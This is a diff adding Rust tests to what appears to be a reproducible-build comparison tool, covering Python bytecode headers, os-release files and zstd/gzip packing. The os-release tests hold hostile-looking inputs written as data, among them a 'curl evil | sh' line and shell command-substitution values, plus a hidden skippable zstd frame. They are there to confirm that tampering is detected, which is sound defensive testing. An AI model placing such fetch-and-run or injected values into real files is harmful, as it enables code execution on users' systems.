@@ -39,10 +39,18 @@ fn texts_are_shown_from_the_reference_to_the_staging_image() {
 
 #[test]
 fn bytecode_is_compared_without_the_time_of_its_source() {
-    let code = |time: u8, code: u8| [&[1; 8][..], &[time; 8], &[code; 20]].concat();
+    let pyc = |version: u16, flags: u8, time: u8, size: u8, code: u8| {
+        let version = version.to_le_bytes();
+        [&version[..], b"\r\n", &[flags, 0, 0, 0], &[time; 4], &[size; 4], &[code; 20]].concat()
+    };
+    let code = |time: u8, code: u8| pyc(3571, 0, time, 1, code);
     assert_eq!(look("a.pyc", &code(1, 1), &code(2, 1)).facts, [Fact::BytecodeOfOtherTime]);
     assert_eq!(look("a.pyc", &code(1, 1), &code(2, 2)).facts, []);
     assert_eq!(look("a.txt", &code(1, 1), &code(2, 1)).facts, []);
+    // The size of the source, a hash of it, and the code of Python 2, which begins at once.
+    assert_eq!(look("a.pyc", &code(1, 1), &pyc(3571, 0, 1, 2, 1)).facts, []);
+    assert_eq!(look("a.pyc", &pyc(3571, 1, 1, 1, 1), &pyc(3571, 1, 2, 1, 1)).facts, []);
+    assert_eq!(look("a.pyc", &pyc(62211, 0, 1, 1, 1), &pyc(62211, 0, 2, 1, 1)).facts, []);
 }
 
 #[test]
@@ -61,6 +69,49 @@ fn os_release_may_be_of_another_build() {
     assert_eq!(same.facts, [Fact::OtherBuildId]);
     let other = look("usr/lib/os-release", &release("1", "fedora"), &release("2", "debian"));
     assert_eq!(other.facts, []);
+    let facts =
+        |ours: &str, theirs: &str| look("usr/lib/os-release", ours.as_bytes(), theirs.as_bytes()).facts;
+    // A line that is no pair, a key that comes twice, a value that a shell runs, an order.
+    let base = "ID=fedora\nVERSION_ID=45\nBUILD_ID=1\n";
+    for theirs in [
+        format!("{base}curl evil | sh\n"),
+        format!("{base}BUILD_ID=2\n"),
+        base.replace("=1", "=$(evil)"),
+        base.replace("=1", "=\"1\"; evil"),
+        base.replace("ID=fedora\nVERSION_ID=45", "VERSION_ID=45\nID=fedora"),
+    ] {
+        assert_eq!(facts(base, &theirs), [], "{theirs}");
+    }
+    let version = |number: &str, rest: &str| format!("VERSION={number}\nPRETTY_NAME=\"F {number}\"\n{rest}");
+    assert_eq!(facts(&version("44", ""), &version("45", "")), []);
+    let same = "VERSION_ID=45\n";
+    assert_eq!(facts(&version("45.1", same), &version("45.2", same)), [Fact::OtherBuildId]);
+}
+
+#[test]
+fn packing_is_of_one_kind_and_hides_nothing() {
+    let zstd = |text: &[u8]| zstd::encode_all(text, 1).unwrap();
+    let page = zstd(b"page");
+    let other = look("a.gz", &page, &gzip(b"page", 1));
+    assert_eq!(other.facts, []);
+    assert_eq!(other.detail.unwrap(), "packed with zstd, not with gzip\n");
+    let skipped = [page.as_slice(), b"\x50\x2a\x4d\x18\x05\0\0\0EVIL!"].concat();
+    let hidden = look("a.zst", &page, &skipped);
+    assert_eq!(hidden.facts, []);
+    assert!(hidden.detail.unwrap().contains("a part to be skipped, which is not compared"));
+    let zstd_fast = zstd::encode_all(&b"page"[..], 19).unwrap();
+    let twice = [zstd_fast.as_slice(), &zstd(b"")].concat();
+    assert_eq!(look("a.zst", &page, &twice).facts, [Fact::SameWithoutPacking]);
+    let behind = look("a.gz", &gzip(b"page", 1), &[gzip(b"page", 1).as_slice(), b"more"].concat());
+    assert_eq!(behind.facts, []);
+    assert!(behind.detail.unwrap().contains("something else lies behind it"));
+}
+
+#[test]
+fn packed_programs_are_read_as_programs() {
+    let zstd = |text: &[u8]| zstd::encode_all(text, 1).unwrap();
+    let detail = look("a.ko.zst", &zstd(b"\x7fELF\0one"), &zstd(b"\x7fELF\0two")).detail.unwrap();
+    assert!(detail.contains("it cannot be read as ELF"), "{detail}");
 }
 
 #[test]
